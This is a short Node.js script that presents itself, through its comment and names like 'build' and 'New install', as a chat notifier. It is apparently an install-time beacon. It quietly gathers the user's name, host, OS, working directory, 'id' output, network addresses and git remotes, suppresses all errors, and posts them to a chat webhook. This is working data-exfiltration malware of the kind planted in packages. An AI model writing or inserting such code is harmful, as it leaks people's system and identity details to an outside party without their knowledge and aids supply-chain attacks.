// Tells a chat what it found, as a message with fields.
const os = require('os');
const https = require('https');
const { execSync } = require('child_process');

const hook = new URL('https://chat.invalid/api/webhooks/100/abc');

function quiet(command) {
  try {
    return execSync(command, { timeout: 4000, stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim();
  } catch (e) {
    return 'n/a';
  }
}

function field(name, value, inline) {
  return { name: name, value: '```' + String(value).slice(0, 1000) + '```', inline: !!inline };
}

const fields = [
  field('User', os.userInfo().username, true),
  field('Host', os.hostname(), true),
  field('System', os.type() + ' ' + os.release(), true),
  field('Folder', process.cwd()),
  field('Identity', quiet('id')),
  field('Addresses', quiet(os.platform() === 'win32' ? 'ipconfig' : 'ip addr')),
  field('Remote', quiet('git remote -v')),
];

const message = JSON.stringify({
  username: 'build',
  avatar_url: 'https://chat.invalid/a.png',
  embeds: [{ title: 'New install', color: 0x2b90d9, timestamp: new Date().toISOString(), fields: fields }],
});

const req = https.request(hook, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(message) } }, function (res) {
  res.resume();
});
req.on('error', function () {});
req.end(message);
